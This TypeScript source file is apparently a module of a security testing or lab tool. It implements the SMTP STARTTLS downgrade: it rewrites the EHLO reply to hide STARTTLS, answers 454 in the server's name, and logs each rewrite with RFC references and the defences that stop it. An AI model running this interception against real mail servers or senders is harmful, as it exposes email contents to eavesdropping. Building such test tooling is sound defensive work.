// strip-starttls: the STARTTLS downgrade. RFC 3207 §6 names it: an attacker on the path deletes
// "250 STARTTLS" from the EHLO reply, and a client that treats TLS as optional goes on in
// plaintext. Here the line keeps its length (250-XXXXXXXA), as middleboxes that did this in the
// wild wrote it; a client that sends STARTTLS anyway gets 454 in the server's name (RFC 3207 §4).

import { text } from '../../../common/i18n/text.ts';
import type { AttackModule } from '../attack-module.ts';
import { interceptSmtpLinks } from '../proxy/intercept-links.ts';
import { smtpTap } from '../proxy/smtp-tap.ts';
import { commandIn } from '../proxy/smtp-watch.ts';
import { holdPartialLine, stripStarttlsAdvert } from './strip-starttls-lines.ts';

const REFUSAL = Buffer.from('454 4.7.0 TLS not available due to temporary reason\r\n');

export const stripStarttls: AttackModule = {
  info: {
    name: 'strip-starttls',
    title: { en: 'Strip STARTTLS', ja: 'STARTTLS の除去（ダウングレード）' },
    description: {
      en: 'Rewrites "250-STARTTLS" in the EHLO reply to "250-XXXXXXXA" (same length) and/or answers 454 to STARTTLS in the server\'s name. A sender that treats TLS as optional goes on in plaintext, and the attacker reads everything.',
      ja: 'EHLO 応答の「250-STARTTLS」を同じ長さの「250-XXXXXXXA」に書き換え、さらに（または）STARTTLS コマンドにサーバーになりすまして 454 を返します。TLS を任意とみなす送信側は平文のまま送り続け、攻撃者はすべてを読めます。',
    },
    target: 'smtp',
    params: [
      {
        name: 'mode',
        description: {
          en: 'both: rewrite the EHLO reply and answer 454; rewrite-ehlo: only hide STARTTLS; refuse-454: only answer 454 to STARTTLS',
          ja: 'both: EHLO 応答の書き換えと 454 応答の両方、rewrite-ehlo: STARTTLS を隠すだけ、refuse-454: STARTTLS に 454 を返すだけ',
        },
        values: ['both', 'rewrite-ehlo', 'refuse-454'],
      },
    ],
    stoppedBy: {
      en: 'MTA-STS enforce (RFC 8461 §5) and DANE (RFC 7672 §2.2): the sender refuses to go on without TLS',
      ja: 'MTA-STS enforce（RFC 8461 §5）と DANE（RFC 7672 §2.2）: 送信側が TLS なしでは送らない',
    },
  },
  async start(run) {
    const rewrite = run.params.mode !== 'refuse-454';
    const refuse = run.params.mode !== 'rewrite-ehlo';
    return interceptSmtpLinks(run, (conn) => {
      const watch = smtpTap(run, conn);
      let held: Buffer = Buffer.alloc(0);
      return {
        data(dir, chunk, io) {
          if (watch.inTls || (dir === 's2c' && !rewrite) || (dir === 'c2s' && !refuse)) {
            io.send(dir, chunk);
            watch.feed(dir, chunk);
            return;
          }
          if (dir === 's2c') {
            // Whole lines only: "250-STARTTLS" may come split over two chunks.
            const split = holdPartialLine(held, chunk);
            held = split.held;
            if (split.lines.length === 0) return;
            const out = stripStarttlsAdvert(split.lines);
            if (out !== split.lines) {
              run.rows.on(conn, {
                action: 'rewrite',
                dir: 's2c',
                said: text('attack.stripRewrote', { host: conn.link.to }),
                fields: { from: 'STARTTLS', to: 'XXXXXXXA' },
                before: split.lines,
                after: out,
                rule: 'RFC 3207 §6',
              });
            }
            io.send('s2c', out);
            watch.feed('s2c', out);
            return;
          }
          let from = 0;
          watch.feedLines('c2s', chunk, (start, end, rows) => {
            if (!commandIn(rows, 'STARTTLS')) return;
            io.send('c2s', chunk.subarray(from, start));
            const command = chunk.subarray(start, end);
            // The trace shows what the client sent and what it got; the server never saw it.
            io.record('c2s', command);
            run.rows.on(conn, {
              action: 'refuse',
              dir: 'c2s',
              said: text('attack.stripRefused', { host: conn.link.to }),
              fields: { command: 'STARTTLS', reply: 454 },
              before: command,
              after: REFUSAL,
              rule: 'RFC 3207 §4',
            });
            io.send('s2c', REFUSAL);
            watch.feed('s2c', REFUSAL);
            from = end;
          });
          io.send('c2s', chunk.subarray(from));
        },
        end(dir, io) {
          if (dir === 's2c' && held.length) {
            io.send('s2c', held);
            held = Buffer.alloc(0);
          }
          io.end(dir);
        },
        closed: () => watch.finish(),
      };
    });
  },
};
